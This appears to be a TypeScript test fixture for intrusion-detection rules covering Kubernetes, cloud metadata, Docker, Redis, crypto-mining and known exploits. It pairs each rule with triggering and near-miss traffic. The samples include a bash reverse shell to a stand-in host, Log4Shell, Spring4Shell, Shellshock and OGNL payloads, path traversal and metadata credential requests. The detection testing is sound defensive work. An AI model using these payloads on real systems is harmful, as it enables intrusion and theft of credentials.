/**
 * One conversation that fires each rule of rules/kubernetes, and a near miss: the same conversation without the one
 * thing the rule looks for. Addresses and ports of the client are given by whoever plays them; servers have an address
 * only where the rule names one.
 */
import type { Bytes, HttpRequest, HttpResponse, Turn } from '../support/packets.ts';
import { dnsQuery, httpRequest, httpResponse } from '../support/packets.ts';

export interface Conversation {
  transport: 'tcp' | 'udp';
  serverPort: number;
  exchange: Turn[];
  /** The server's address, where it matters. */
  server?: string;
}

export interface RuleCase {
  sid: number;
  fires: Conversation;
  nearMiss: Conversation;
  /** Other rules of the set that fire on `fires` too, each for a reason given beside it. */
  alsoFires?: number[];
}

interface Place {
  server?: string;
  serverPort?: number;
}

function tcp(serverPort: number, ...exchange: Turn[]): Conversation {
  return { transport: 'tcp', serverPort, exchange };
}

const toServer = (data: Bytes): Turn => ({ from: 'client', data });
const toClient = (data: Bytes): Turn => ({ from: 'server', data });

function http(
  request: HttpRequest,
  response: HttpResponse = {},
  { server, serverPort = 80 }: Place = {},
): Conversation {
  const conversation = tcp(serverPort, toServer(httpRequest(request)), toClient(httpResponse(response)));
  return server === undefined ? conversation : { ...conversation, server };
}

const get = (path: string, headers: Record<string, string> = {}, place: Place = {}): Conversation =>
  http({ path, headers }, { body: 'ok' }, place);
const post = (path: string, body: string, headers: Record<string, string> = {}, place: Place = {}): Conversation =>
  http({ method: 'POST', path, body, headers }, { body: 'ok' }, place);
const page = (body: string, status = 200): Conversation =>
  http({}, { status, headers: { 'Content-Type': 'text/plain' }, body });

function dns(name: string, type = 1): Conversation {
  return { transport: 'udp', serverPort: 53, exchange: [toServer(dnsQuery(name, { type }))] };
}

/** A frame of HTTP/2 (RFC 9113). */
function frame(type: number, flags: number, stream: number, payload: Buffer): Buffer {
  const header = Buffer.alloc(9);
  header.writeUIntBE(payload.length, 0, 3);
  header.writeUInt8(type, 3);
  header.writeUInt8(flags, 4);
  header.writeUInt32BE(stream, 5);
  return Buffer.concat([header, payload]);
}

const literal = (text: string): Buffer => Buffer.concat([Buffer.from([text.length]), Buffer.from(text)]);
const field = (name: string, value: string): Buffer => Buffer.concat([Buffer.from([0]), literal(name), literal(value)]);

/** A gRPC call in clear-text HTTP/2, its headers as HPACK literals without Huffman coding (RFC 7541, 6.2.2). */
function grpc(path: string): Conversation {
  const settings = frame(4, 0, 0, Buffer.alloc(0));
  const request = [field(':method', 'POST'), field(':scheme', 'http'), field(':path', path)];
  const more = [field(':authority', 'etcd:2379'), field('content-type', 'application/grpc'), field('te', 'trailers')];
  const status = Buffer.from([0x88]);
  return tcp(
    2379,
    toServer(Buffer.concat([Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), settings])),
    toClient(Buffer.concat([settings, frame(4, 1, 0, Buffer.alloc(0))])),
    toServer(frame(4, 1, 0, Buffer.alloc(0))),
    toServer(frame(1, 4, 1, Buffer.concat([...request, ...more]))),
    toServer(frame(0, 1, 1, Buffer.from([0, 0, 0, 0, 0]))),
    toClient(frame(1, 5, 1, status)),
  );
}

/** A Redis command as clients send it (RESP). */
function redis(...words: string[]): Conversation {
  const command = words.map((word) => `$${word.length}\r\n${word}\r\n`).join('');
  return tcp(6379, toServer(`*${words.length}\r\n${command}`), toClient('+OK\r\n'));
}

const json = (value: unknown): string => JSON.stringify(value);
const miner = (message: unknown): Conversation => tcp(3333, toServer(`${json(message)}\n`), toClient('{"id":1}\n'));
const base64url = (value: unknown): string => Buffer.from(json(value)).toString('base64url');

/** `padding` characters in front move the subject to another base64 alignment. */
function bearer(subject: string, padding = 0): Record<string, string> {
  const claims = { iss: `https://kubernetes.default.svc${'x'.repeat(padding)}`, sub: subject };
  const header = { alg: 'RS256', kid: 'aGVsbG8' };
  return { Authorization: `Bearer ${base64url(header)}.${base64url(claims)}.c2lnbmF0dXJlLWJ5dGVz` };
}

const KUBELET = { serverPort: 10_255 };
const AWS = { server: '169.254.169.254' };
const FORBIDDEN = { kind: 'Status', status: 'Failure', reason: 'Forbidden', code: 403 };
const PEM_BODY = 'MIIEowIBAAKCAQEAvT3l0Vw6yS8sZx1q9Yp0b5c2dX7e8F9a0B1c2D3e4F5g6H7i\n';
const LONG_LABEL = 'mzxw6ytboi2gk43uejqxgylomvzxi2lom5zwk3tborzgk5dbnrwg63tf';
const ETCD_KEY = 'L3JlZ2lzdHJ5L3NlY3JldHM=';
const POD = (privileged: boolean): string =>
  json({ kind: 'Pod', spec: { containers: [{ name: 'a', image: 'a', securityContext: { privileged } }] } });

export const CASES: RuleCase[] = [
  {
    sid: 1000001,
    fires: post('/', 'smk=1234', { 'User-Agent': 'Mozilla/4.0' }),
    nearMiss: post('/', 'smk=1234', { 'User-Agent': 'Mozilla/4.0 (compatible; MSIE 8.0)' }),
  },
  // Cloud metadata
  {
    sid: 1000010,
    fires: get('/latest/meta-data/iam/security-credentials/node-role', {}, AWS),
    nearMiss: get('/latest/meta-data/placement/availability-zone', {}, AWS),
  },
  {
    sid: 1000011,
    fires: http({ method: 'PUT', path: '/latest/api/token' }, { body: 'AQAAAJ' }, AWS),
    nearMiss: http({ method: 'PUT', path: '/latest/api/token' }, { body: 'AQAAAJ' }),
  },
  {
    sid: 1000012,
    fires: get('/latest/user-data', {}, AWS),
    nearMiss: get('/latest/dynamic/instance-identity/document', {}, AWS),
  },
  {
    sid: 1000013,
    fires: get('/computeMetadata/v1/instance/service-accounts/default/token', { 'Metadata-Flavor': 'Google' }),
    nearMiss: get('/computeMetadata/v1/instance/service-accounts/default/email', { 'Metadata-Flavor': 'Google' }),
  },
  {
    sid: 1000014,
    fires: get('/computeMetadata/v1/instance/attributes/kube-env', { 'Metadata-Flavor': 'Google' }),
    nearMiss: get('/computeMetadata/v1/instance/attributes/cluster-name', { 'Metadata-Flavor': 'Google' }),
  },
  {
    sid: 1000015,
    fires: get('/metadata/identity/oauth2/token?api-version=2018-02-01', { Metadata: 'true' }),
    nearMiss: get('/metadata/identity/oauth2/token?api-version=2018-02-01'),
  },
  {
    sid: 1000016,
    fires: get('/metadata/instance?api-version=2021-02-01', { Metadata: 'true' }),
    nearMiss: get('/metadata/instance?api-version=2021-02-01'),
  },
  {
    sid: 1000017,
    fires: get('/latest/meta-data/ram/security-credentials/node', {}, { server: '100.100.100.200' }),
    nearMiss: get('/latest/meta-data/zone-id', {}, { server: '100.100.100.200' }),
  },
  {
    sid: 1000018,
    fires: get('/fetch?url=http%3A%2F%2F169.254.169.254%2Flatest%2F'),
    nearMiss: get('/hosts/169.254.169.254?url=none'),
  },
  {
    sid: 1000019,
    fires: get('/fetch?size=1&url=http://metadata.google.internal/computeMetadata/v1/'),
    nearMiss: get('/docs/metadata.google.internal?size=1'),
  },
  // Kubernetes
  {
    sid: 1000030,
    fires: page(
      json({ ...FORBIDDEN, message: 'pods is forbidden: User "system:anonymous" cannot list resource "pods"' }),
      403,
    ),
    nearMiss: page(json({ ...FORBIDDEN, message: 'pods is forbidden: User "jane" cannot list resource "pods"' }), 403),
  },
  { sid: 1000031, fires: get('/pods', {}, KUBELET), nearMiss: get('/metrics/pods', {}, KUBELET) },
  {
    sid: 1000032,
    fires: post('/run/default/web-1/web', 'cmd=id', {}, KUBELET),
    nearMiss: post('/checkpoint/default/web-1/web', 'cmd=id', {}, KUBELET),
  },
  {
    sid: 1000033,
    fires: get('/exec/default/web-1/web?command=ls&input=1&output=1', {}, KUBELET),
    nearMiss: get('/exec/default/web-1/web', {}, KUBELET),
  },
  {
    sid: 1000034,
    fires: get('/', bearer('system:serviceaccount:default:web')),
    nearMiss: get('/', bearer('system:node:worker-1')),
  },
  {
    sid: 1000034,
    fires: get('/', bearer('system:serviceaccount:default:web', 1)),
    nearMiss: get('/', bearer('system:serviceuser:default:web', 1)),
  },
  {
    sid: 1000034,
    fires: get('/', bearer('system:serviceaccount:default:web', 2)),
    nearMiss: get('/', bearer('system:serviceuser:default:web', 2)),
  },
  {
    sid: 1000035,
    fires: get('/view?page=../../../var/run/secrets/kubernetes.io/serviceaccount/token'),
    nearMiss: get('/view?page=kubernetes.io/service-accounts'),
  },
  {
    sid: 1000035,
    fires: get('/static/..%2f..%2frun%2fsecrets%2fkubernetes.io%2fserviceaccount%2ftoken'),
    nearMiss: get('/static/kubernetes.io%2fserviceaccount.html'),
  },
  {
    sid: 1000036,
    fires: get('/api/v1/pod/default', { Cookie: 'lang=en; skipLoginPage=true' }),
    nearMiss: get('/api/v1/pod/default', { Cookie: 'lang=en; skipLoginPage=false' }),
  },
  {
    sid: 1000037,
    fires: post('/api/v1/namespaces/default/pods/web-1/exec?command=sh&stdin=true', ''),
    nearMiss: post('/api/v1/namespaces/default/pods/web-1/exec?container=web&stdin=true', ''),
  },
  {
    sid: 1000038,
    fires: get('/api/v1/namespaces/default/secrets?limit=500'),
    nearMiss: get('/api/v1/namespaces/default/configmaps/secrets?limit=500'),
  },
  {
    sid: 1000039,
    fires: post('/api/v1/namespaces/default/pods', POD(true)),
    nearMiss: post('/api/v1/namespaces/default/pods', POD(false)),
  },
  {
    sid: 1000040,
    fires: grpc('/hapi.services.tiller.ReleaseService/ListReleases'),
    nearMiss: grpc('/helm.services.ReleaseService/ListReleases'),
  },
  // etcd
  {
    sid: 1000050,
    fires: get('/v2/keys/registry?recursive=true', {}, { serverPort: 2379 }),
    nearMiss: get('/v2/stats/self', {}, { serverPort: 2379 }),
  },
  {
    sid: 1000051,
    fires: post('/v3/kv/range', json({ key: ETCD_KEY }), {}, { serverPort: 2379 }),
    nearMiss: post('/api/kv/range', json({ key: ETCD_KEY }), {}, { serverPort: 2379 }),
  },
  { sid: 1000052, fires: grpc('/etcdserverpb.KV/Range'), nearMiss: grpc('/grpc.health.v1.Health/Check') },
  // Docker
  {
    sid: 1000055,
    fires: post('/v1.41/containers/create?name=a', json({ Image: 'alpine' }), {}, { serverPort: 2375 }),
    nearMiss: post('/docs/containers/create?name=a', json({ Image: 'alpine' }), {}, { serverPort: 2375 }),
  },
  {
    sid: 1000056,
    fires: get('/v1.24/containers/json?all=1', {}, { serverPort: 2375 }),
    nearMiss: get('/docs/containers/json?all=1', {}, { serverPort: 2375 }),
  },
  {
    sid: 1000057,
    fires: post('/containers/create', json({ Image: 'a', HostConfig: { Privileged: true } }), {}, { serverPort: 2375 }),
    nearMiss: post(
      '/docs/containers/create',
      json({ Image: 'a', HostConfig: { Privileged: false } }),
      {},
      { serverPort: 2375 },
    ),
    // A privileged container is a container.
    alsoFires: [1000055],
  },
  {
    sid: 1000058,
    fires: post('/containers/3f4e8a/exec', json({ AttachStdout: true, Cmd: ['sh'] }), {}, { serverPort: 2375 }),
    nearMiss: post('/containers/3f4e8a/exec', json({ AttachStdout: true }), {}, { serverPort: 2375 }),
  },
  // Crypto-mining
  {
    sid: 1000060,
    fires: miner({ id: 1, method: 'mining.subscribe', params: ['cgminer/4.10'] }),
    nearMiss: miner({ id: 1, method: 'help', params: ['mining.subscribe'] }),
  },
  {
    sid: 1000061,
    fires: miner({ id: 2, method: 'mining.authorize', params: ['wallet.worker', 'x'] }),
    nearMiss: miner({ id: 2, method: 'help', params: ['mining.authorize'] }),
  },
  {
    sid: 1000062,
    fires: miner({
      id: 1,
      method: 'login',
      params: { login: '48edf', pass: 'x', agent: 'XMRig/6.21.0 (Linux x86_64)' },
    }),
    nearMiss: miner({
      id: 1,
      method: 'login',
      params: { login: '48edf', pass: 'XMRig/6.21.0', agent: 'Thunderbird/115.0' },
    }),
  },
  {
    sid: 1000063,
    fires: tcp(
      3333,
      toServer('{"id":1,"method":"hello"}\n'),
      toClient(
        `${json({ method: 'job', params: { blob: '1010aa', job_id: '7', target: 'b88d0600', seed_hash: 'ab' } })}\n`,
      ),
    ),
    nearMiss: tcp(
      3333,
      toServer('{"id":1,"method":"hello"}\n'),
      toClient(
        `${json({ method: 'job', params: { blob: '1010aa', job_id: '7', target: 'b88d0600', file_hash: 'ab' } })}\n`,
      ),
    ),
  },
  { sid: 1000064, fires: dns('pool.supportxmr.com'), nearMiss: dns('supportxmr.com.example.test') },
  { sid: 1000065, fires: dns('gulf.moneroocean.stream'), nearMiss: dns('gulf.ocean.stream') },
  { sid: 1000066, fires: dns('pool.hashvault.pro'), nearMiss: dns('pool.hashivault.pro') },
  { sid: 1000067, fires: dns('xmr-eu1.nanopool.org'), nearMiss: dns('xmr-eu1.notnanopool.org') },
  { sid: 1000068, fires: dns('mine.c3pool.org'), nearMiss: dns('mine.c3pool.org.svc') },
  { sid: 1000069, fires: dns('xmr.2miners.com'), nearMiss: dns('xmr.22miners.com') },
  // Scanners
  {
    sid: 1000070,
    fires: get('/', { 'User-Agent': 'sqlmap/1.7.2#stable (https://sqlmap.org)' }),
    nearMiss: get('/', { Referer: 'https://example.test/sqlmap/1.7.2', 'User-Agent': 'curl/8.5.0' }),
  },
  {
    sid: 1000071,
    fires: get('/', { 'User-Agent': 'Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)' }),
    nearMiss: get('/', { 'User-Agent': 'Mozilla/5.0 (Nikita/2.1.6)' }),
  },
  {
    sid: 1000072,
    fires: get('/', {
      'User-Agent': 'Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)',
    }),
    nearMiss: get('/', { 'User-Agent': 'Mozilla/5.0 (compatible; Apps Scripting Engine)' }),
  },
  {
    sid: 1000073,
    fires: get('/', { 'User-Agent': 'Mozilla/5.0 zgrab/0.x' }),
    nearMiss: get('/', { 'User-Agent': 'Mozilla/5.0 grab/0.6' }),
  },
  {
    sid: 1000074,
    fires: get('/', { 'User-Agent': 'masscan/1.3 (https://github.com/robertdavidgraham/masscan)' }),
    nearMiss: get('/', { 'User-Agent': 'scan/1.3' }),
  },
  {
    sid: 1000075,
    fires: get('/', { 'User-Agent': 'Nuclei - Open-source project (github.com/projectdiscovery/nuclei)' }),
    nearMiss: get('/', { 'User-Agent': 'Nucleus - Open-source project' }),
  },
  {
    sid: 1000076,
    fires: get('/admin', { 'User-Agent': 'gobuster/3.6' }),
    nearMiss: get('/admin', { 'User-Agent': 'buster/3.6' }),
  },
  {
    sid: 1000077,
    fires: get('/admin', { 'User-Agent': 'Fuzz Faster U Fool v2.1.0' }),
    nearMiss: get('/admin', { 'User-Agent': 'Fuzz Faster' }),
  },
  // Shells
  {
    sid: 1000080,
    fires: page('#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n'),
    nearMiss: page('#!/bin/sh\necho ok > /dev/tcp/203.0.113.7/4444\n'),
  },
  {
    sid: 1000080,
    fires: get('/cgi?x=bash+-i+>%26+/dev/tcp/203.0.113.7/4444+0>%261'),
    nearMiss: get('/cgi?x=bash+-i+/dev/tcp/203.0.113.7/4444'),
  },
  {
    sid: 1000081,
    fires: tcp(4444, toServer("/bin/sh: 0: can't access tty; job control turned off\n# "), toClient('ls\n')),
    nearMiss: tcp(4444, toServer("/bin/app: 0: can't access tty; job control turned off\n# "), toClient('ls\n')),
  },
  {
    sid: 1000082,
    fires: tcp(4444, toServer('bash: cannot set terminal process group (1): Inappropriate ioctl for device\n')),
    nearMiss: tcp(4444, toServer('bash: cannot set locale (1): Inappropriate ioctl for device\n')),
  },
  {
    sid: 1000083,
    fires: tcp(4444, toClient('id\n'), toServer('uid=0(root) gid=0(root) groups=0(root)\n')),
    nearMiss: tcp(4444, toClient('id\n'), toServer('uid=1000(app) gid=1000(app) groups=1000(app)\n')),
  },
  {
    sid: 1000084,
    fires: page('<pre>uid=0(root) gid=0(root) groups=0(root)\n</pre>'),
    nearMiss: page('<pre>uid=33(www-data) gid=33(www-data)\n</pre>'),
  },
  // Exploits
  {
    sid: 1000090,
    fires: get('/?q=%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.7%2Fa%7D'),
    nearMiss: get('/?q=%24%7Bname%3Aldap%3A%2F%2F203.0.113.7%2Fa%7D'),
  },
  {
    sid: 1000091,
    fires: get('/', { 'User-Agent': '${jndi:ldap://203.0.113.7/a}' }),
    nearMiss: get('/', { 'User-Agent': '${name:ldap://203.0.113.7/a}' }),
  },
  {
    sid: 1000092,
    fires: post('/login', 'user=${jndi:ldap://203.0.113.7/a}'),
    nearMiss: post('/login', 'user=${name:ldap://203.0.113.7/a}'),
  },
  {
    sid: 1000093,
    fires: get('/', { 'X-Api-Version': '${${lower:j}ndi:ldap://203.0.113.7/a}' }),
    nearMiss: get('/', { 'X-Api-Version': '${lower:host}' }),
  },
  {
    sid: 1000094,
    fires: post('/login', 'user=${${upper:j}ndi:ldap://203.0.113.7/a}'),
    nearMiss: post('/login', 'user=${upper:host}'),
  },
  {
    sid: 1000095,
    fires: get('/?q=${${::-j}${::-n}di:ldap://203.0.113.7/a}'),
    nearMiss: get('/?q=${::-host}'),
  },
  {
    sid: 1000096,
    fires: get('/?class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp'),
    nearMiss: get('/?class.module.name=loader'),
  },
  {
    sid: 1000097,
    fires: post('/', 'class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp'),
    nearMiss: post('/', 'class.module.name=loader'),
  },
  {
    sid: 1000098,
    fires: post('/functionRouter', 'a', {
      'spring.cloud.function.routing-expression': 'T(java.lang.Runtime).getRuntime().exec("id")',
    }),
    nearMiss: post('/functionRouter', 'a', { 'spring.cloud.function.routing-expression': "'uppercase'" }),
  },
  {
    sid: 1000099,
    fires: get('/%24%7B%28%23a%3D%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29%29%7D/'),
    nearMiss: get('/%24%7Bpage.title%7D/'),
  },
  {
    sid: 1000100,
    fires: get('/cgi-bin/status', { 'User-Agent': '() { :;}; /bin/id' }),
    nearMiss: get('/cgi-bin/status', { 'User-Agent': 'function() { return 1 }' }),
  },
  { sid: 1000101, fires: get('/uploads/a.jsp?cmd=whoami'), nearMiss: get('/uploads/a.jsp?cmd=whoami-page') },
  {
    sid: 1000102,
    fires: get('/download?file=../../../../etc/passwd'),
    nearMiss: get('/download?file=/etc/passwd-policy'),
  },
  { sid: 1000102, fires: get('/icons/..%2f..%2f..%2fetc/passwd'), nearMiss: get('/icons/etc/passwd.html') },
  {
    sid: 1000103,
    fires: page('root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n'),
    nearMiss: page('The line root:x:0:0: names the superuser.\n'),
  },
  { sid: 1000104, fires: get('/cgi-bin/.%2e/.%2e/.%2e/bin/sh'), nearMiss: get('/cgi-bin/a%2ehtml') },
  {
    sid: 1000105,
    fires: post('/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', '<?php echo 1;'),
    nearMiss: get('/vendor/phpunit/phpunit/src/Util/PHP/Template.php'),
  },
  {
    sid: 1000106,
    fires: post('/upload.action', 'a', {
      'Content-Type': "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}",
    }),
    nearMiss: post('/upload.action', 'a', { 'Content-Type': 'multipart/form-data; boundary=ognl.OgnlContext' }),
  },
  {
    sid: 1000107,
    fires: get('/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5'),
    nearMiss: get('/index.php?s=/docs/invokefunction&function=call_user_func'),
  },
  // DNS
  { sid: 1000110, fires: dns('vaaaakardli.t.example.test', 10), nearMiss: dns('vaaaakardli.t.example.test', 16) },
  { sid: 1000111, fires: dns('dnscat.6a5d01e1f00000.example.test', 16), nearMiss: dns('dnscat.docs.example.test', 16) },
  {
    sid: 1000112,
    fires: dns(`${LONG_LABEL}.t.example.test`, 16),
    nearMiss: dns(`${LONG_LABEL.slice(0, 40)}.${LONG_LABEL.slice(0, 20)}.t.example.test`, 16),
  },
  { sid: 1000113, fires: dns('cq1a2b3c4d5e6f.oast.fun'), nearMiss: dns('www.oast.example.test') },
  { sid: 1000114, fires: dns('cq1a2b3c4d5e6f.interact.sh'), nearMiss: dns('cq1a2b3c4d5e6f.interact.sh.test') },
  { sid: 1000115, fires: dns('abc123.burpcollaborator.net'), nearMiss: dns('abc123.collaborator.net') },
  { sid: 1000116, fires: dns('abc123.oastify.com'), nearMiss: dns('abc123.toastify.com') },
  // Redis
  {
    sid: 1000120,
    fires: redis('CONFIG', 'SET', 'dir', '/var/spool/cron/'),
    nearMiss: redis('CONFIG', 'SET', 'maxmemory', '100mb'),
  },
  { sid: 1000121, fires: redis('SLAVEOF', '203.0.113.7', '6379'), nearMiss: redis('SLAVEOF', 'NO', 'ONE') },
  { sid: 1000122, fires: redis('MODULE', 'LOAD', '/tmp/exp.so'), nearMiss: redis('MODULE', 'LIST') },
  // Secrets in clear text
  {
    sid: 1000130,
    fires: tcp(9000, toServer(`-----BEGIN RSA PRIVATE KEY-----\n${PEM_BODY}`)),
    nearMiss: tcp(9000, toServer('-----BEGIN RSA PRIVATE KEY-----\n(your key)\n-----END RSA PRIVATE KEY-----\n')),
  },
  {
    sid: 1000131,
    fires: page('users:\n- name: admin\n  user:\n    client-key-data: LS0tLS1CRUdJTiBSU0EgUFJJVkFURSBLRVkt\n'),
    nearMiss: page('users:\n- name: admin\n  user:\n    client-key-data: DATA+OMITTED\n'),
  },
  {
    sid: 1000132,
    fires: page('[default]\naws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\n'),
    nearMiss: page('[default]\naws_secret_access_key = <your secret access key of forty characters>\n'),
  },
];
